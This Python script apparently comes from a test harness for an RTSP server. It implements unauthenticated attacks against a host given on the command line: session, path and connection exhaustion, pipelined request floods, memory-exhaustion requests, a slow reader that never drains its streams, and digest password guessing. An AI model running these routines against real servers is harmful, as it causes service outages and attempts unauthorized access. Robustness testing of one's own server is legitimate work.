#!/usr/bin/python3
"""Attacks of a client without credentials on an RTSP server.

    rtsp_attacks.py ATTACK HOST TCPPORT SECONDS SOURCE…

Each keeps what it could take until its time is over, and prints one line of JSON: what it got. ATTACK is one of the functions below.
"""
import json
import select
import sys
import time

from client import Client, connect, digest, request


class Attack:
    def __init__(self, host, tcp_port, seconds, sources):
        self.host, self.tcp_port, self.sources = host, tcp_port, sources
        self.url = f"rtsp://{host}:{tcp_port}"
        self.end = time.monotonic() + seconds
        self.kept = []
        self.counts = {}

    def count(self, what, number=1):
        self.counts[what] = self.counts.get(what, 0) + number

    def is_over(self):
        return time.monotonic() >= self.end

    def client(self, number=0, **options):
        """A connection from one of the addresses; nil where it is refused."""
        try:
            made = Client(self.host, self.tcp_port, self.sources[number % len(self.sources)], timeout=5, **options)
        except OSError as error:
            self.count(f"connect: {type(error).__name__}")
            return None
        self.kept.append(made)
        return made

    def ask(self, client, method, url, headers=(), body=b""):
        try:
            status, fields = client.ask(method, url, headers, body)
        except (OSError, ValueError) as error:
            self.count(f"{method}: {type(error).__name__}")
            return 0, {}
        self.count(f"{method}: {status}")
        return status, fields

    def finish(self):
        while not self.is_over():
            time.sleep(0.05)

    # The attacks.

    def sessions(self):
        """SETUP and nothing more, first on one connection, then on many."""
        for number in range(40):
            client = self.client(number)
            for stream in range(300):
                if client is None or self.is_over():
                    break
                client.session = None
                udp_port = 2000 + (number * 300 + stream) * 2 % 60000
                status, _ = self.ask(
                    client, "SETUP", self.url + "/cam/streamid=0",
                    {"Transport": f"RTP/AVP;unicast;client_port={udp_port}-{udp_port + 1}"})
                if status == 0:
                    break
        self.finish()

    def legs(self):
        """Plays one stream as often as it can, on a few connections."""
        for number in range(600):
            if self.is_over():
                break
            client = self.client(number) if number % 40 == 0 else client
            if client is None:
                continue
            client.session = None
            udp_port = 2000 + number * 2
            status, _ = self.ask(
                client, "SETUP", self.url + "/cam/streamid=0",
                {"Transport": f"RTP/AVP;unicast;client_port={udp_port}-{udp_port + 1}"})
            if status == 200:
                self.ask(client, "PLAY", self.url + "/cam")
        self.finish()

    def paths(self):
        """Plays paths that it invents below a prefix."""
        clients = [self.client(number) for number in range(64)]
        for number in range(4200):
            client = clients[number % len(clients)]
            if self.is_over():
                break
            if client is None:
                continue
            client.session = None
            udp_port = 2000 + number * 2
            status, _ = self.ask(
                client, "SETUP", f"{self.url}/pre/x{number}/streamid=0",
                {"Transport": f"RTP/AVP;unicast;client_port={udp_port}-{udp_port + 1}"})
            if status == 200:
                self.ask(client, "PLAY", f"{self.url}/pre/x{number}")
        self.finish()

    def flood(self, contents):
        """Sends each connection's bytes over and over, as fast as they are taken, and reads whatever comes."""
        sockets = {}
        for number, content in enumerate(contents):
            client = self.client(number)
            if client:
                client.socket.setblocking(False)
                sockets[client.socket] = content
        while sockets and not self.is_over():
            readable, writable, _ = select.select(list(sockets), list(sockets), [], 0.1)
            for one in readable:
                try:
                    octets = one.recv(1 << 18)
                except OSError:
                    octets = b""
                if not octets:
                    self.count("closed")
                    sockets.pop(one, None)
                self.count("answers", octets.count(b"RTSP/1.0 "))
            for one in writable:
                if one in sockets:
                    try:
                        self.count("bytes", one.send(sockets[one]))
                    except OSError:
                        pass
            if not writable:
                time.sleep(0.01)
        self.finish()

    def pipeline(self):
        """Pipelined OPTIONS, methods that nobody knows, and interleaved packets that nobody asked for."""
        options = request("OPTIONS", "*", 1) * 1500
        unknown = request("FLY", "*", 1) * 1500
        frames = b"$\0\0\0" * 16384
        self.flood([options] * 80 + [unknown] * 20 + [frames] * 8)

    def memory(self):
        """Large requests behind one that waits for an upstream which never answers."""
        padding = {f"X-{number}": "y" * 1000 for number in range(14)}
        large = request("GET_PARAMETER", self.url + "/cam", 2, padding, b"x" * 4000)
        longer = request("ANNOUNCE", self.url + "/cam", 3, {}, b"x" * 65000)[:-1]
        first = request("DESCRIBE", self.url + "/silent", 1)
        self.flood([first + large * 16 + longer] * 900)

    def connections(self):
        """As many connections as it can get, each with a request now and then."""
        for number in range(5000):
            if self.is_over():
                break
            try:
                made = connect(self.host, self.tcp_port, self.sources[number % len(self.sources)], timeout=2)
                made.sendall(request("OPTIONS", "*", 1))
                made.setblocking(False)
                self.kept.append(made)
                self.count("connected")
            except OSError as error:
                self.count(type(error).__name__)
        time.sleep(0.5)
        for made in self.kept:
            try:
                self.count("open" if made.recv(4096) else "closed")
            except BlockingIOError:
                self.count("silent")
            except OSError:
                self.count("closed")
        self.finish()

    def slow(self):
        """Plays interleaved, and reads nothing."""
        for number in range(40):
            client = self.client(number, receive_buffer=4096)
            if client is None:
                continue
            status, _ = self.ask(
                client, "SETUP", self.url + "/fast/streamid=0", {"Transport": "RTP/AVP/TCP;unicast;interleaved=0-1"})
            if status == 200:
                self.ask(client, "PLAY", self.url + "/fast")
        self.finish()

    def passwords(self):
        """Guesses the password of a user, on many connections."""
        clients = [self.client(number) for number in range(20)]
        guesses = 0
        while not self.is_over():
            for client in clients:
                if client is None:
                    continue
                status, fields = self.ask(client, "DESCRIBE", self.url + "/closed")
                if status == 401:
                    guesses += 1
                    value = digest(fields["challenges"], "alice", f"guess{guesses}", "DESCRIBE", self.url + "/closed")
                    self.ask(client, "DESCRIBE", self.url + "/closed", {"Authorization": value})
        self.counts["guesses"] = guesses


def main():
    attack = Attack(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), sys.argv[5:])
    getattr(attack, sys.argv[1])()
    print(json.dumps(attack.counts))


main()
